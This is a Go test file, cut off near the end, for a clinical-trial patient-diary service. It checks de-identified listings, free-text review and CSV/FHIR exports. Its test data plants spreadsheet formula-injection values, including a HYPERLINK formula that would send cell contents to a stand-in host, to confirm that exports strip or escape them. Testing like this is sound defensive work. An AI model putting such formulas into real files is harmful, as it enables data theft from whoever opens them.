package epro_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"connectrpc.com/connect/v2"
	"github.com/google/uuid"
	"google.golang.org/protobuf/encoding/protojson"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/timestamppb"

	authzv1 "github.com/trialhub/trialhub/gen/go/trialhub/authz/v1"
	eprov1 "github.com/trialhub/trialhub/gen/go/trialhub/epro/v1"
	"github.com/trialhub/trialhub/gen/go/trialhub/epro/v1/eprov1connect"
	trialv1 "github.com/trialhub/trialhub/gen/go/trialhub/trial/v1"
	"github.com/trialhub/trialhub/services/epro"
	"github.com/trialhub/trialhub/services/platform/auth"
)

// Calendar dates and instants, which no de-identified row or export may hold.
var datePattern = regexp.MustCompile(`\b[0-9]{4}-[0-9]{2}-[0-9]{2}\b|T[0-9]{2}:[0-9]{2}:[0-9]{2}`)

const (
	diaryURL  = "https://trialhub.example/fhir/Questionnaire/diary"
	moodCodes = "https://trialhub.example/fhir/CodeSystem/mood"
	siteB     = "0b6f1a2c-3d4e-4f50-8a6b-7c8d9e0f1a2b"
)

// analysis is a trial with two sites in two zones (Berlin, New York), one
// subject at each, who answered a diary with every kind of identifying answer,
// and a PHQ-9 at a second visit of the first subject.
type analysis struct {
	*fixture
	diary          *eprov1.Questionnaire
	s1, s2         string // subjects at siteID (Berlin) and siteB (New York)
	r1, r2, rPHQ   string // response ids
	enrolled       map[string]string
	analyst        eprov1connect.EproServiceClient
	investigatorA  eprov1connect.EproServiceClient
	investigatorB  eprov1connect.EproServiceClient
	otherAnalyst   eprov1connect.EproServiceClient
	wantOnsetDayS1 int32
}

func diaryRequest() *eprov1.CreateQuestionnaireRequest {
	coding := func(code, display string, score float64) *eprov1.AnswerOption {
		return &eprov1.AnswerOption{Value: &eprov1.AnswerOption_ValueCoding{ValueCoding: &eprov1.Coding{System: moodCodes, Code: code, Display: display}}, Score: &score}
	}
	return &eprov1.CreateQuestionnaireRequest{
		IdempotencyKey: "diary-questionnaire-1.0.0", Url: diaryURL, Version: "1.0.0", Name: "DIARY", Title: "Daily diary",
		Status: eprov1.QuestionnaireStatus_QUESTIONNAIRE_STATUS_ACTIVE, Language: "en",
		Items: []*eprov1.QuestionnaireItem{
			{LinkId: "mood", Text: "How is your mood?", Type: eprov1.ItemType_ITEM_TYPE_CHOICE, Required: true,
				AnswerOptions: []*eprov1.AnswerOption{coding("good", "Good", 0), coding("low", "Low", 1)}},
			{LinkId: "age", Text: "Your age in years", Type: eprov1.ItemType_ITEM_TYPE_INTEGER, Age: true},
			{LinkId: "onset", Text: "When did it start?", Type: eprov1.ItemType_ITEM_TYPE_DATE},
			{LinkId: "weight", Text: "Your weight", Type: eprov1.ItemType_ITEM_TYPE_QUANTITY,
				Unit: &eprov1.Coding{System: "http://unitsofmeasure.org", Code: "kg", Display: "kg"}},
			{LinkId: "comment", Text: "Anything else?", Type: eprov1.ItemType_ITEM_TYPE_TEXT},
		},
		ScoringRules: []*eprov1.ScoringRule{{Name: "total", Title: "Diary mood score", Method: eprov1.ScoringMethod_SCORING_METHOD_SUM,
			LinkIds: []string{"mood"}, Bands: []*eprov1.SeverityBand{{Min: 0, Max: 0, Label: "Fine"}, {Min: 1, Max: 1, Label: "Low"}}}},
	}
}

func diaryAnswers(moodDisplay, onset, comment string, age int32) []*eprov1.ItemAnswer {
	one := func(link string, v *eprov1.AnswerValue) *eprov1.ItemAnswer {
		return &eprov1.ItemAnswer{LinkId: link, Values: []*eprov1.AnswerValue{v}}
	}
	return []*eprov1.ItemAnswer{
		// The device sends answers in its own order, with its own display and unit text.
		one("comment", &eprov1.AnswerValue{Value: &eprov1.AnswerValue_ValueString{ValueString: comment}}),
		one("mood", &eprov1.AnswerValue{Value: &eprov1.AnswerValue_ValueCoding{ValueCoding: &eprov1.Coding{System: moodCodes, Code: "low", Display: moodDisplay}}}),
		one("age", &eprov1.AnswerValue{Value: &eprov1.AnswerValue_ValueInteger{ValueInteger: age}}),
		one("onset", &eprov1.AnswerValue{Value: &eprov1.AnswerValue_ValueDate{ValueDate: onset}}),
		one("weight", &eprov1.AnswerValue{Value: &eprov1.AnswerValue_ValueQuantity{ValueQuantity: &eprov1.Quantity{Value: "72.5", Unit: "kilos of me"}}}),
	}
}

func staff(t testing.TB, f *fixture, c auth.Caller) eprov1connect.EproServiceClient {
	return eprov1connect.NewEproServiceClient(f.env.Client(t, c))
}

func setupAnalysis(t *testing.T) *analysis {
	t.Helper()
	f := setup(t)
	ctx := context.Background()
	created, err := f.admin.CreateQuestionnaire(ctx, diaryRequest())
	if err != nil {
		t.Fatal(err)
	}
	a := &analysis{fixture: f, diary: created.GetQuestionnaire(), s1: uuid.NewString(), s2: uuid.NewString(), enrolled: map[string]string{}}
	trial := f.trial.trialID
	a.analyst = staff(t, f, auth.Caller{Subject: "an-1", Role: authzv1.Role_ROLE_ANALYST, Trials: []string{trial}})
	a.otherAnalyst = staff(t, f, auth.Caller{Subject: "an-2", Role: authzv1.Role_ROLE_ANALYST, Trials: []string{uuid.NewString()}})
	a.investigatorA = staff(t, f, auth.Caller{Subject: "inv-a", Role: authzv1.Role_ROLE_INVESTIGATOR, Sites: []string{siteID}, Trials: []string{trial}})
	a.investigatorB = staff(t, f, auth.Caller{Subject: "inv-b", Role: authzv1.Role_ROLE_INVESTIGATOR, Sites: []string{siteB}, Trials: []string{trial}})

	now := time.Now().UTC()
	plan := func(subject, site, zone, code, qid string) string {
		loc, err := time.LoadLocation(zone)
		if err != nil {
			t.Fatal(err)
		}
		enrolled := now.In(loc).AddDate(0, 0, -9).Format(time.DateOnly) // now is study day 10 at the site
		a.enrolled[subject] = enrolled
		site2code := map[string]string{siteID: "DE-001", siteB: "US-001"}
		return f.trial.put(&trialv1.SubjectVisit{SubjectUuid: subject, VisitCode: code, VisitName: "Visit " + code,
			WindowOpensAt: timestamppb.New(now.Add(-2 * time.Hour)), WindowClosesAt: timestamppb.New(now.Add(2 * time.Hour)),
			Status: trialv1.SubjectVisitStatus_SUBJECT_VISIT_STATUS_PENDING, SiteId: site, EnrollmentDate: enrolled,
			SiteTimeZone: zone, SiteCode: site2code[site],
			Questionnaires: []*trialv1.QuestionnaireRef{{Ref: &trialv1.QuestionnaireRef_QuestionnaireId{QuestionnaireId: qid}}}})
	}
	v1 := plan(a.s1, siteID, "Europe/Berlin", "W01", a.diary.GetQuestionnaireId())
	v2 := plan(a.s2, siteB, "America/New_York", "W01", a.diary.GetQuestionnaireId())
	v3 := plan(a.s1, siteID, "Europe/Berlin", "W02", f.phq9.GetQuestionnaireId())
	eventually(t, "the visits copied", func() bool {
		return count(t, f.env, `SELECT COUNT(*) FROM subject_visits WHERE id IN ($1, $2, $3)`, v1, v2, v3) == 3
	})
	submit := func(subject, visit, qid string, answers []*eprov1.ItemAnswer) string {
		p := staff(t, f, auth.Caller{Subject: subject, Role: authzv1.Role_ROLE_PATIENT})
		res, err := p.SubmitResponse(ctx, &eprov1.SubmitResponseRequest{IdempotencyKey: "submit-" + uuid.NewString(), TrialId: trial,
			SubjectVisitId: visit, QuestionnaireId: qid, AuthoredAt: timestamppb.New(now), Answers: answers})
		if err != nil || res.GetReceipt() == nil {
			t.Fatalf("submit: %v %v", res, err)
		}
		return res.GetReceipt().GetResponseId()
	}
	onset := now.In(mustZone(t, "Europe/Berlin")).AddDate(0, 0, -12).Format(time.DateOnly) // 3 days before enrollment: day -3
	a.wantOnsetDayS1 = -3
	a.r1 = submit(a.s1, v1, a.diary.GetQuestionnaireId(), diaryAnswers(`=HYPERLINK("http://x.example/?"&A1)`, onset, "I feel tired today", 93))
	a.r2 = submit(a.s2, v2, a.diary.GetQuestionnaireId(), diaryAnswers("Low", onset, "=SUM(A1:A9) call Anna at 555-0100", 40))
	a.rPHQ = submit(a.s1, v3, f.phq9.GetQuestionnaireId(), phq9Answers(t, total(12)))
	return a
}

func mustZone(t testing.TB, name string) *time.Location {
	loc, err := time.LoadLocation(name)
	if err != nil {
		t.Fatal(err)
	}
	return loc
}

func noDates(t *testing.T, what string, b []byte) {
	t.Helper()
	if m := datePattern.Find(b); m != nil {
		t.Fatalf("%s holds a calendar date or instant %q", what, m)
	}
}

func answerOf(r *eprov1.DeidentifiedResponse, link string) *eprov1.DeidentifiedItemAnswer {
	for _, a := range r.GetAnswers() {
		if a.GetLinkId() == link {
			return a
		}
	}
	return nil
}

func TestListResponsesDeidentified(t *testing.T) {
	a := setupAnalysis(t)
	ctx := context.Background()
	trial := a.trial.trialID
	res, err := a.analyst.ListResponses(ctx, &eprov1.ListResponsesRequest{TrialId: trial})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.GetResponses()) != 3 {
		t.Fatalf("%d responses, want 3", len(res.GetResponses()))
	}
	raw, err := protojson.Marshal(res)
	if err != nil {
		t.Fatal(err)
	}
	noDates(t, "ListResponses", raw)
	for _, secret := range []string{"tired", "555-0100", "Anna", "HYPERLINK", "kilos"} {
		if bytes.Contains(raw, []byte(secret)) {
			t.Fatalf("the analyst's rows contain %q: %s", secret, raw)
		}
	}
	// Ordered by site, then subject; the PHQ-9 and the diary of s1 at siteID.
	byID := map[string]*eprov1.DeidentifiedResponse{}
	for i, r := range res.GetResponses() {
		byID[r.GetResponseId()] = r
		if i > 0 && r.GetSiteId() < res.GetResponses()[i-1].GetSiteId() {
			t.Fatalf("not ordered by site: %v", res.GetResponses())
		}
		if r.GetAuthoredStudyDay() != 10 {
			t.Errorf("response %s: study day %d, want 10 (enrolled 9 days before, in the site's zone)", r.GetResponseId(), r.GetAuthoredStudyDay())
		}
	}
	d1 := byID[a.r1]
	if d1.GetSiteId() != siteID || d1.GetSubjectUuid() != a.s1 || d1.GetVisitCode() != "W01" || d1.GetVisitName() != "Visit W01" ||
		d1.GetQuestionnaire().GetQuestionnaireUrl() != diaryURL || d1.GetQuestionnaire().GetVersion() != "1.0.0" || !d1.GetCurrent() ||
		d1.GetLate() || d1.GetProtocolDeviation() || d1.GetAuthorRole() != authzv1.Role_ROLE_PATIENT {
		t.Fatalf("diary row: %v", d1)
	}
	if sc := d1.GetScores(); len(sc) != 1 || sc[0].GetValue() != 1 || sc[0].GetBand().GetLabel() != "Low" {
		t.Fatalf("diary scores %v", sc)
	}
	// Answers in questionnaire order, each de-identified.
	var order []string
	for _, x := range d1.GetAnswers() {
		order = append(order, x.GetLinkId())
	}
	if !slices.Equal(order, []string{"mood", "age", "onset", "weight", "comment"}) {
		t.Fatalf("answer order %v", order)
	}
	if m := answerOf(d1, "mood"); m.GetValues()[0].GetValueCoding().GetDisplay() != "Low" || m.GetScore() != 1 {
		t.Fatalf("mood shows %v: want the definition's display", m)
	}
	if ag := answerOf(d1, "age"); ag.GetValues()[0].GetValueInteger() != 90 {
		t.Fatalf("age 93 shows %v, want 90", ag)
	}
	if on := answerOf(d1, "onset"); len(on.GetValues()) != 0 || !slices.Equal(on.GetStudyDays(), []int32{a.wantOnsetDayS1}) ||
		on.GetWithheldReason() != eprov1.WithheldReason_WITHHELD_REASON_CALENDAR_DATE {
		t.Fatalf("onset shows %v, want study day %d", on, a.wantOnsetDayS1)
	}
	if w := answerOf(d1, "weight"); w.GetValues()[0].GetValueQuantity().GetUnit() != "kg" {
		t.Fatalf("weight shows %v, want the definition's unit", w)
	}
	if c := answerOf(d1, "comment"); len(c.GetValues()) != 0 || c.GetWithheldReason() != eprov1.WithheldReason_WITHHELD_REASON_FREE_TEXT_NOT_REQUESTED ||
		!d1.GetHasWithheldAnswers() {
		t.Fatalf("comment shows %v, want withheld", c)
	}
	if ph := byID[a.rPHQ]; ph.GetScores()[0].GetValue() != 12 || ph.GetScores()[0].GetBand().GetLabel() != "Moderate" {
		t.Fatalf("PHQ-9 row %v", ph.GetScores())
	}

	// Filters and paging: one a page, the token bound to the filters.
	var paged []string
	req := &eprov1.ListResponsesRequest{TrialId: trial, PageSize: 1}
	for {
		page, err := a.analyst.ListResponses(ctx, req)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range page.GetResponses() {
			paged = append(paged, r.GetResponseId())
		}
		if page.GetNextPageToken() == "" {
			break
		}
		req.PageToken = page.GetNextPageToken()
		// A token is readable by whoever holds it: no authored instant in it either.
		decoded, err := base64.RawURLEncoding.DecodeString(req.PageToken)
		if err != nil {
			t.Fatal(err)
		}
		noDates(t, "a page token", decoded)
		if len(paged) == 1 {
			_, err := a.analyst.ListResponses(ctx, &eprov1.ListResponsesRequest{TrialId: trial, SiteId: siteB, PageToken: req.PageToken})
			wantCode(t, err, connect.CodeInvalidArgument, "page_token")
		}
	}
	var all []string
	for _, r := range res.GetResponses() {
		all = append(all, r.GetResponseId())
	}
	if !slices.Equal(paged, all) {
		t.Fatalf("paged %v, all at once %v", paged, all)
	}
	for _, tc := range []struct {
		name string
		req  *eprov1.ListResponsesRequest
		want []string
	}{
		{"site", &eprov1.ListResponsesRequest{SiteId: siteB}, []string{a.r2}},
		{"url", &eprov1.ListResponsesRequest{QuestionnaireUrl: diaryURL}, []string{a.r1, a.r2}},
		{"version", &eprov1.ListResponsesRequest{QuestionnaireId: a.phq9.GetQuestionnaireId()}, []string{a.rPHQ}},
		{"visit code", &eprov1.ListResponsesRequest{VisitCodes: []string{"W02"}}, []string{a.rPHQ}},
		{"subject", &eprov1.ListResponsesRequest{SubjectUuid: a.s2}, []string{a.r2}},
		{"entered in error only", &eprov1.ListResponsesRequest{Statuses: []eprov1.ResponseStatus{eprov1.ResponseStatus_RESPONSE_STATUS_ENTERED_IN_ERROR}}, nil},
	} {
		tc.req.TrialId = trial
		got, err := a.analyst.ListResponses(ctx, tc.req)
		if err != nil {
			t.Fatalf("%s: %v", tc.name, err)
		}
		var ids []string
		for _, r := range got.GetResponses() {
			ids = append(ids, r.GetResponseId())
		}
		slices.Sort(ids)
		slices.Sort(tc.want)
		if !slices.Equal(ids, tc.want) {
			t.Errorf("%s: %v, want %v", tc.name, ids, tc.want)
		}
	}

	// Scope: an analyst of another trial, an investigator of another site, ALL
	// for anyone but investigators.
	_, err = a.otherAnalyst.ListResponses(ctx, &eprov1.ListResponsesRequest{TrialId: trial})
	wantCode(t, err, connect.CodePermissionDenied, "trial_id")
	_, err = a.investigatorA.ListResponses(ctx, &eprov1.ListResponsesRequest{TrialId: trial, SiteId: siteB})
	wantCode(t, err, connect.CodePermissionDenied, "site_id")
	_, err = a.analyst.ListResponses(ctx, &eprov1.ListResponsesRequest{TrialId: trial, FreeText: eprov1.FreeTextVisibility_FREE_TEXT_VISIBILITY_ALL})
	wantCode(t, err, connect.CodePermissionDenied, "free_text")
	_, err = a.admin.ListResponses(ctx, &eprov1.ListResponsesRequest{TrialId: trial, FreeText: eprov1.FreeTextVisibility_FREE_TEXT_VISIBILITY_ALL})
	wantCode(t, err, connect.CodePermissionDenied, "free_text")

	// An investigator sees their site only; with ALL, the unreviewed comment.
	mine, err := a.investigatorB.ListResponses(ctx, &eprov1.ListResponsesRequest{TrialId: trial, FreeText: eprov1.FreeTextVisibility_FREE_TEXT_VISIBILITY_ALL})
	if err != nil || len(mine.GetResponses()) != 1 || mine.GetResponses()[0].GetResponseId() != a.r2 {
		t.Fatalf("site B investigator: %v %v", mine, err)
	}
	if c := answerOf(mine.GetResponses()[0], "comment"); len(c.GetValues()) != 1 || !strings.Contains(c.GetValues()[0].GetValueString(), "555-0100") {
		t.Fatalf("ALL for the site's investigator shows %v", c)
	}
	reviewedOnly, err := a.investigatorB.ListResponses(ctx, &eprov1.ListResponsesRequest{TrialId: trial, FreeText: eprov1.FreeTextVisibility_FREE_TEXT_VISIBILITY_REVIEWED_ONLY})
	if err != nil {
		t.Fatal(err)
	}
	if c := answerOf(reviewedOnly.GetResponses()[0], "comment"); len(c.GetValues()) != 0 || c.GetWithheldReason() != eprov1.WithheldReason_WITHHELD_REASON_FREE_TEXT_UNREVIEWED {
		t.Fatalf("REVIEWED_ONLY before review shows %v", c)
	}
}

// The Connect GET encoding reaches ListResponses (NO_SIDE_EFFECTS), as curl does.
func TestListResponsesByHTTPGet(t *testing.T) {
	a := setupAnalysis(t)
	token := a.env.Token(t, auth.Caller{Subject: "an-1", Role: authzv1.Role_ROLE_ANALYST, Trials: []string{a.trial.trialID}})
	msg, _ := json.Marshal(map[string]any{"trialId": a.trial.trialID, "siteId": siteB})
	res := httpGet(t, a.env.URL+"/trialhub.epro.v1.EproService/ListResponses?encoding=json&message="+url.QueryEscape(string(msg)), token)
	var out struct {
		Responses []struct {
			ResponseID       string `json:"responseId"`
			AuthoredStudyDay int    `json:"authoredStudyDay"`
		} `json:"responses"`
	}
	if err := json.Unmarshal(res, &out); err != nil {
		t.Fatalf("%v: %s", err, res)
	}
	if len(out.Responses) != 1 || out.Responses[0].ResponseID != a.r2 || out.Responses[0].AuthoredStudyDay != 10 {
		t.Fatalf("GET answered %s", res)
	}
}

func httpGet(t *testing.T, u, token string) []byte {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, u, nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+token)
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	body, err := io.ReadAll(res.Body)
	if err != nil || res.StatusCode != http.StatusOK {
		t.Fatalf("GET %s: %d %v %s", u, res.StatusCode, err, body)
	}
	return body
}

func TestReviewFreeText(t *testing.T) {
	a := setupAnalysis(t)
	ctx := context.Background()
	trial := a.trial.trialID
	review := func(c eprov1connect.EproServiceClient, key, response, link string, d eprov1.FreeTextDecision) (*eprov1.ReviewFreeTextResponse, error) {
		return c.ReviewFreeText(ctx, &eprov1.ReviewFreeTextRequest{IdempotencyKey: key, ResponseId: response, Revision: 1, LinkId: link,
			Decision: d, Reason: "read by the site, no identifiers"})
	}
	_, err := review(a.investigatorA, "review-wrong-site-01", a.r2, "comment", eprov1.FreeTextDecision_FREE_TEXT_DECISION_REVIEWED)
	wantCode(t, err, connect.CodePermissionDenied, "response_id")
	_, err = review(a.investigatorA, "review-not-text-0001", a.r1, "mood", eprov1.FreeTextDecision_FREE_TEXT_DECISION_REVIEWED)
	wantCode(t, err, connect.CodeInvalidArgument, "link_id")
	_, err = review(a.investigatorA, "review-unknown-00001", uuid.NewString(), "comment", eprov1.FreeTextDecision_FREE_TEXT_DECISION_REVIEWED)
	wantCode(t, err, connect.CodeNotFound, "response_id")

	got, err := review(a.investigatorA, "review-s1-comment-01", a.r1, "comment", eprov1.FreeTextDecision_FREE_TEXT_DECISION_REVIEWED)
	if err != nil || got.GetDecision() != eprov1.FreeTextDecision_FREE_TEXT_DECISION_REVIEWED || got.GetRevision() != 1 {
		t.Fatalf("review: %v %v", got, err)
	}
	again, err := review(a.investigatorA, "review-s1-comment-01", a.r1, "comment", eprov1.FreeTextDecision_FREE_TEXT_DECISION_REVIEWED)
	if err != nil || !again.GetReviewedAt().AsTime().Equal(got.GetReviewedAt().AsTime()) {
		t.Fatalf("retry: %v %v, want the first answer", again, err)
	}
	_, err = review(a.investigatorA, "review-s1-comment-01", a.r1, "comment", eprov1.FreeTextDecision_FREE_TEXT_DECISION_REDACTED)
	wantCode(t, err, connect.CodeAlreadyExists, "")

	// REVIEWED_ONLY now shows the reviewed comment to the analyst, not the unreviewed one.
	comments := func(c eprov1connect.EproServiceClient, ft eprov1.FreeTextVisibility) map[string]*eprov1.DeidentifiedItemAnswer {
		t.Helper()
		res, err := c.ListResponses(ctx, &eprov1.ListResponsesRequest{TrialId: trial, QuestionnaireUrl: diaryURL, FreeText: ft})
		if err != nil {
			t.Fatal(err)
		}
		out := map[string]*eprov1.DeidentifiedItemAnswer{}
		for _, r := range res.GetResponses() {
			out[r.GetResponseId()] = answerOf(r, "comment")
		}
		return out
	}
	c := comments(a.analyst, eprov1.FreeTextVisibility_FREE_TEXT_VISIBILITY_REVIEWED_ONLY)
	if v := c[a.r1].GetValues(); len(v) != 1 || v[0].GetValueString() != "I feel tired today" {
		t.Fatalf("reviewed comment shows %v", c[a.r1])
	}
	if c[a.r2].GetWithheldReason() != eprov1.WithheldReason_WITHHELD_REASON_FREE_TEXT_UNREVIEWED || len(c[a.r2].GetValues()) != 0 {
		t.Fatalf("unreviewed comment shows %v", c[a.r2])
	}
	if c := comments(a.analyst, eprov1.FreeTextVisibility_FREE_TEXT_VISIBILITY_WITHHELD); len(c[a.r1].GetValues()) != 0 ||
		c[a.r1].GetWithheldReason() != eprov1.WithheldReason_WITHHELD_REASON_FREE_TEXT_NOT_REQUESTED {
		t.Fatalf("WITHHELD shows the reviewed comment: %v", c[a.r1])
	}
	// A later decision replaces the earlier one: redacted text is never shown, not even with ALL.
	if _, err := review(a.investigatorA, "review-s1-comment-02", a.r1, "comment", eprov1.FreeTextDecision_FREE_TEXT_DECISION_REDACTED); err != nil {
		t.Fatal(err)
	}
	if c := comments(a.investigatorA, eprov1.FreeTextVisibility_FREE_TEXT_VISIBILITY_ALL); len(c[a.r1].GetValues()) != 0 ||
		c[a.r1].GetWithheldReason() != eprov1.WithheldReason_WITHHELD_REASON_FREE_TEXT_REDACTED {
		t.Fatalf("redacted comment shows %v", c[a.r1])
	}
	events, err := a.admin.ListAuditEvents(ctx, &eprov1.ListAuditEventsRequest{Actions: []eprov1.AuditAction{eprov1.AuditAction_AUDIT_ACTION_FREE_TEXT_REVIEWED}})
	if err != nil {
		t.Fatal(err)
	}
	if ev := events.GetEvents(); len(ev) != 2 || ev[0].GetNewValue() != "REVIEWED" || ev[1].GetOldValue() != "REVIEWED" ||
		ev[1].GetNewValue() != "REDACTED" || ev[1].GetField() != "answers.comment" || ev[1].GetRecordId() != a.r1 ||
		ev[1].GetActor().GetId() != "inv-a" || !strings.Contains(ev[1].GetReason(), "no identifiers") {
		t.Fatalf("audit events %v", ev)
	}
}

// export runs an export to its end and returns the messages and the file.
func export(t *testing.T, c eprov1connect.EproServiceClient, req *eprov1.ExportResponsesRequest) ([]*eprov1.ExportResponsesResponse, []byte, error) {
	t.Helper()
	stream, err := c.ExportResponses(context.Background(), req)
	if err != nil {
		return nil, nil, err
	}
	defer stream.Close()
	var msgs []*eprov1.ExportResponsesResponse
	var file bytes.Buffer
	for {
		m, err := stream.Receive()
		if errors.Is(err, io.EOF) {
			return msgs, file.Bytes(), nil
		}
		if err != nil {
			return msgs, file.Bytes(), err
		}
		msgs = append(msgs, m)
		file.WriteString(m.GetHeader().GetCsvHeader())
		file.WriteString(m.GetRow().GetData())
	}
}

func checkTrailer(t *testing.T, msgs []*eprov1.ExportResponsesResponse, file []byte, rows int) *eprov1.ExportTrailer {
	t.Helper()
	tr := msgs[len(msgs)-1].GetTrailer()
	sum := sha256.Sum256(file)
	if tr == nil || int(tr.GetRowCount()) != rows || tr.GetSha256() != hex.EncodeToString(sum[:]) {
		t.Fatalf("trailer %v, want %d rows and the file's sha256 %x", tr, rows, sum)
	}
	return tr
}

func TestExportCSVAndNDJSON(t *testing.T) {
	a := setupAnalysis(t)
	ctx := context.Background()
	trial := a.trial.trialID
	// s2's comment is released, so the REVIEWED_ONLY export carries it: it
	// begins with "=", and must reach a spreadsheet as text.
	if _, err := a.investigatorB.ReviewFreeText(ctx, &eprov1.ReviewFreeTextRequest{IdempotencyKey: "review-s2-comment-01", ResponseId: a.r2,
		Revision: 1, LinkId: "comment", Decision: eprov1.FreeTextDecision_FREE_TEXT_DECISION_REVIEWED, Reason: "checked by the site"}); err != nil {
		t.Fatal(err)
	}

	_, _, err := export(t, a.otherAnalyst, &eprov1.ExportResponsesRequest{Format: eprov1.ExportFormat_EXPORT_FORMAT_CSV, TrialId: trial})
	wantCode(t, err, connect.CodePermissionDenied, "trial_id")

	msgs, file, err := export(t, a.analyst, &eprov1.ExportResponsesRequest{Format: eprov1.ExportFormat_EXPORT_FORMAT_CSV, TrialId: trial})
	if err != nil {
		t.Fatal(err)
	}
	h, cb := msgs[0].GetHeader(), msgs[1].GetCodebook()
	if h.GetMediaType() != "text/csv" || h.GetExportId() == "" || cb == nil || len(msgs) != 2+3+1 {
		t.Fatalf("stream %v", msgs)
	}
	tr := checkTrailer(t, msgs, file, 3)
	noDates(t, "the CSV export", file)
	for _, secret := range []string{"tired", "555-0100", "Anna", "HYPERLINK", "kilos"} {
		if bytes.Contains(file, []byte(secret)) {
			t.Fatalf("the CSV contains %q:\n%s", secret, file)
		}
	}
	records, err := csv.NewReader(bytes.NewReader(file)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	header := records[0]
	col := func(name string) int {
		i := slices.Index(header, name)
		if i < 0 {
			t.Fatalf("no column %s in %v", name, header)
		}
		return i
	}
	if len(cb.GetColumns()) != len(header) {
		t.Fatalf("%d codebook columns for %d header columns", len(cb.GetColumns()), len(header))
	}
	for i, c := range cb.GetColumns() {
		if c.GetName() != header[i] {
			t.Fatalf("codebook column %d is %s, header %s", i, c.GetName(), header[i])
		}
		if c.GetQuestionnaireUrl() != "" && !strings.Contains(c.GetNotes(), c.GetQuestionnaireUrl()+"|1.0.0") {
			t.Fatalf("column %s does not name its questionnaire version: %q", c.GetName(), c.GetNotes())
		}
	}
	byResponse := map[string][]string{}
	for _, r := range records[1:] {
		if len(r) != len(header) {
			t.Fatalf("row of %d cells for %d columns", len(r), len(header))
		}
		byResponse[r[col("response_id")]] = r
	}
	r1, r2, rp := byResponse[a.r1], byResponse[a.r2], byResponse[a.rPHQ]
	if r1[col("site_code")] != "DE-001" || r2[col("site_code")] != "US-001" || r1[col("authored_study_day")] != "10" ||
		r1[col("questionnaire_version")] != "1.0.0" || r1[col("DIARY.mood")] != "low" || r1[col("DIARY.age")] != "90+" ||
		r1[col("DIARY.onset")] != "-3" || r1[col("DIARY.weight")] != "72.5" || r1[col("DIARY.total")] != "1" ||
		r1[col("DIARY.total.band")] != "Low" || r1[col("DIARY.comment")] != "" || r1[col("withheld")] != "comment:FREE_TEXT_NOT_REQUESTED" {
		t.Fatalf("diary row %v", r1)
	}
	if rp[col("PHQ9.total")] != "12" || rp[col("PHQ9.total.band")] != "Moderate" || rp[col("DIARY.mood")] != "" {
		t.Fatalf("PHQ-9 row %v", rp)
	}
	_ = r2

	// REVIEWED_ONLY: the released comment, escaped against formulas; the other still withheld.
	_, file2, err := export(t, a.analyst, &eprov1.ExportResponsesRequest{Format: eprov1.ExportFormat_EXPORT_FORMAT_CSV, TrialId: trial,
		QuestionnaireUrl: diaryURL, FreeText: eprov1.FreeTextVisibility_FREE_TEXT_VISIBILITY_REVIEWED_ONLY})
	if err != nil {
		t.Fatal(err)
	}
	records, err = csv.NewReader(bytes.NewReader(file2)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	header = records[0]
	for _, r := range records[1:] {
		switch r[col("response_id")] {
		case a.r2:
			if r[col("DIARY.comment")] != "'=SUM(A1:A9) call Anna at 555-0100" {
				t.Fatalf("reviewed formula cell %q, want it escaped", r[col("DIARY.comment")])
			}
		case a.r1:
			if r[col("DIARY.comment")] != "" || r[col("withheld")] != "comment:FREE_TEXT_UNREVIEWED" {
				t.Fatalf("unreviewed comment exported: %v", r)
			}
		}
	}
	_, _, err = export(t, a.investigatorA, &eprov1.ExportResponsesRequest{Format: eprov1.ExportFormat_EXPORT_FORMAT_CSV, TrialId: trial})
	wantCode(t, err, connect.CodePermissionDenied, "")

	// NDJSON: FHIR R4 QuestionnaireResponses, canonical url|version, study days, no authored.
	msgs, file, err = export(t, a.analyst, &eprov1.ExportResponsesRequest{Format: eprov1.ExportFormat_EXPORT_FORMAT_FHIR_NDJSON, TrialId: trial})
	if err != nil {
		t.Fatal(err)
	}
	if msgs[0].GetHeader().GetMediaType() != "application/fhir+ndjson" || msgs[1].GetCodebook() != nil ||
		!strings.Contains(msgs[0].GetHeader().GetNotes(), "study days") {
		t.Fatalf("NDJSON stream starts %v %v", msgs[0], msgs[1])
	}
	ndTrailer := checkTrailer(t, msgs, file, 3)
	noDates(t, "the NDJSON export", file)
	lines := strings.Split(strings.TrimSuffix(string(file), "\n"), "\n")
	if len(lines) != 3 {
		t.Fatalf("%d NDJSON lines", len(lines))
	}
	for _, line := range lines {
		var doc map[string]any
		if err := json.Unmarshal([]byte(line), &doc); err != nil {
			t.Fatalf("%v: %s", err, line)
		}
		if doc["resourceType"] != "QuestionnaireResponse" || doc["authored"] != nil || doc["status"] != "completed" {
			t.Fatalf("resource %s", line)
		}
		canonical, _ := doc["questionnaire"].(string)
		if canonical != diaryURL+"|1.0.0" && canonical != "https://trialhub.example/fhir/Questionnaire/phq-9|1.0.0" {
			t.Fatalf("questionnaire %q", canonical)
		}
		ext := doc["extension"].([]any)[0].(map[string]any)
		if !strings.HasSuffix(ext["url"].(string), "/study-day") || ext["valueInteger"] != float64(10) {
			t.Fatalf("study day extension %v", ext)
		}
		for _, secret := range []string{"tired", "555-0100", "HYPERLINK", "kilos"} {
			if strings.Contains(line, secret) {
				t.Fatalf("NDJSON holds %q: %s", secret, line)
			}
		}
	}

	// Every export is on the audit trail: who, filters, rows, checksum.
	events, err := a.admin.ListAuditEvents(ctx, &eprov1.ListAuditEventsRequest{Actions: []eprov1.AuditAction{eprov1.AuditAction_AUDIT_ACTION_RESPONSES_EXPORTED}})
	if err != nil {
		t.Fatal(err)
	}
	ev := events.GetEvents()
	if len(ev) != 3 {
		t.Fatalf("%d export events, want 3 (refused exports are not exports)", len(ev))
	}
	if ev[0].GetNewValue() != "CSV rows=3 sha256="+tr.GetSha256() || ev[0].GetActor().GetId() != "an-1" || ev[0].GetTrialId() != trial ||
		ev[0].GetRecordId() != h.GetExportId() || !strings.Contains(ev[0].GetReason(), trial) {
